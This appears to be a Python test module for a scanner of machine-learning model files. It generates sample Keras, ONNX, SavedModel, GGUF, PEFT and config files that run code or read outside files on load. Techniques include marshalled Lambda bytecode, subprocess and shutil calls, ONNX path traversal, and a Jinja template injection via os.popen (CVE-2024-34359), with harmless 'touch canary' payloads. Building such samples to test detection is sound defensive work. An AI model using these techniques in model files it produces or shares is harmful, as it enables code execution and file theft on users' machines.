"""Files that run code without any pickle of their own, each with the loader that proves it.

Made without the libraries: what a loader needs next to a file is one of ``run_loaders.HELPERS``.
The libraries learn: PEFT 0.13, Keras 3.7 and ONNX Runtime 1.20 load what later versions refuse.
"""

from __future__ import annotations

import base64
import io
import json
import lzma
import marshal
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

from ..formats.gguf_files import GgufWriter
from ..formats.torch_files import torch_zip
from .evil import EVIL_PICKLE, OPEN, Sample
from .odd_spellings import odd
from .third_round import third_round

SAVED_MODELS = Path(__file__).parents[2] / "fixtures" / "trust" / "saved_models.json"
LAMBDA = SAVED_MODELS.with_name("keras_lambda.json")

#: Outside of the folder of an ONNX file.
OUTSIDE = ("empty/../../outside", "../outside", "./../outside")

TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch canary').read() }}"
#: What is a finding, but no error, as it runs only where the user has said so.
ALLOWED = "runs where the user allows it"


def gadgets() -> list[Sample]:
    """Those that are errors."""
    every = [*_keras(), *_onnx(*OUTSIDE), *_saved_models(), *_templates(), *_classes()]
    return [s._replace(category="other loaders", title=f"{s.category}: {s.title}") for s in every]


def later() -> Iterator[Sample]:
    """Errors too, which the published comparison of scanners was made without."""
    yield from _onnx("/tmp/hfinspect-outside")
    yield from third_round()
    packed = json.loads(LAMBDA.read_text(encoding="utf-8"))["files"]["lambda.h5"]
    data = lzma.decompress(base64.b64decode(packed))
    yield Sample("Keras", "a Lambda layer in HDF5", "m.h5", "keras", data)
    yield from odd()
    config = {
        "model_type": "gpt2",
        "architectures": ["GPT2LMHeadModel"],
        "n_layer": 1,
        "n_embd": 4,
        "n_head": 1,
        "vocab_size": 4,
        "n_positions": 4,
        "_attn_implementation": "someone/attention",
    }
    yield Sample(
        "kernels", "attention of a repo", "config.json", "kernel", json.dumps(config).encode()
    )


def _keras_file(layer: Mapping[str, object]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {
            "name": "m",
            "trainable": True,
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "registered_name": None,
                    "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "i"},
                },
                layer,
            ],
        },
    }
    return _keras_archive(config)


def _keras_archive(config: Mapping[str, object]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.7.0"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")
    return out.getvalue()


def _keras() -> Iterator[Sample]:
    """``keras.saving.load_model``, with the safe mode off where it has one for that."""
    code = compile(f"lambda x: {OPEN} and x", "x", "eval").co_consts[0]
    encoded = base64.b64encode(marshal.dumps(code)).decode()
    function = {
        "class_name": "__lambda__",
        "config": {"code": encoded, "defaults": None, "closure": None},
    }
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "l",
            "trainable": True,
            "dtype": "float32",
            "function": function,
            "arguments": {},
        },
    }
    yield Sample("Keras", "a Lambda layer", "m.keras", "keras", _keras_file(layer))
    torch = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "t", "module": base64.b64encode(torch_zip(EVIL_PICKLE, {})).decode()},
    }
    data = _keras_file(torch)
    yield Sample("Keras", "a pickled torch module", "m.keras", "keras of today", data)
    imported: dict[str, object] = {
        "module": "evil",
        "class_name": "Layer",
        "registered_name": None,
        "config": {},
    }
    yield Sample("Keras", "a class of any module", "m.keras", "keras", _keras_file(imported))
    for module, name, args in (
        ("os", "makedirs", ["canary"]),
        ("subprocess", "call", [["touch", "canary"]]),
        ("shutil", "copyfile", ["/etc/hostname", "canary"]),
    ):
        config = {
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "registered_name": None,
            "config": {
                "name": "m",
                "trainable": True,
                "layers": [
                    {
                        "module": module,
                        "class_name": name,
                        "registered_name": name,
                        "config": {},
                        "name": "r",
                        "inbound_nodes": [{"args": args, "kwargs": {}}],
                    }
                ],
                "input_layers": [["r", 0, 0]],
                "output_layers": [["r", 0, 0]],
            },
        }
        yield Sample("Keras", f"a call of {name}", "m.keras", "keras", _keras_archive(config))


def _field(number: int, value: bytes | int) -> bytes:
    if isinstance(value, int):
        return bytes([number << 3]) + bytes([value])
    return bytes([number << 3 | 2, len(value)]) + value


def _onnx(*locations: str) -> Iterator[Sample]:
    """The canary is that bytes of a file outside of the folder are in the model."""
    for location in locations:
        entry = _field(1, b"location") + _field(2, location.encode())
        tensor = _field(1, 4) + _field(2, 2) + _field(8, b"w") + _field(13, entry) + _field(14, 1)
        kind = _field(2, _field(1, _field(1, 2) + _field(2, _field(1, _field(1, 4)))))
        node = _field(1, b"w") + _field(2, b"y") + _field(4, b"Identity")
        graph = _field(1, node) + _field(2, b"g") + _field(5, tensor)
        graph += _field(12, _field(1, b"y") + kind)
        data = _field(1, 8) + _field(8, _field(1, b"") + _field(2, 13)) + _field(7, graph)
        yield Sample("ONNX", location, "model.onnx", "onnx", data)


def _saved_models() -> Iterator[Sample]:
    files = json.loads(SAVED_MODELS.read_text(encoding="utf-8"))["files"]
    for title, packed in files.items():
        data = lzma.decompress(base64.b64decode(packed))
        yield Sample("SavedModel", title, "saved_model.pb", "tensorflow", data)


def _templates() -> Iterator[Sample]:
    """As programs did that rendered them without a sandbox (CVE-2024-34359)."""
    writer = GgufWriter().text("general.architecture", "llama")
    data = writer.text("tokenizer.chat_template", TEMPLATE).bytes(0)
    yield Sample("templates in other files", "GGUF", "m.gguf", "gguf template", data)
    named = [{"name": "default", "template": TEMPLATE}]
    for title, value in (("text", TEMPLATE), ("list", named)):
        data = json.dumps({"chat_template": value}).encode()
        file = "tokenizer_config.json"
        yield Sample("templates in other files", title, file, "config template", data)


def _classes() -> Iterator[Sample]:
    """PEFT imports the module before it knows the base model."""
    for library in ("evil", "evil.inner"):
        config = {
            "peft_type": "LORA",
            "base_model_name_or_path": "none",
            "auto_mapping": {"base_model_class": "X", "parent_library": library},
        }
        data = json.dumps(config).encode()
        yield Sample("class by name", f"PEFT {library}", "adapter_config.json", "peft", data)


def allowed() -> Iterator[Sample]:
    """With trust_remote_code alone: warnings."""
    auto = {"model_type": "mine", "auto_map": {"AutoConfig": "evil.Config"}}
    yield Sample(ALLOWED, "auto_map", "config.json", "auto class", json.dumps(auto).encode())
    code = f"{OPEN}\ndef generate(model, **settings):\n    pass\n".encode()
    yield Sample(ALLOWED, "custom_generate", "custom_generate/generate.py", "custom generate", code)
    modules = [{"idx": 0, "name": "0", "path": "", "type": "evil.Thing"}]
    yield Sample(ALLOWED, "modules.json", "modules.json", "sentence", json.dumps(modules).encode())
    index = {"_class_name": ["evil", "Mine"], "_diffusers_version": "0.30.0"}
    yield Sample(
        ALLOWED, "model_index.json", "model_index.json", "pipeline", json.dumps(index).encode()
    )
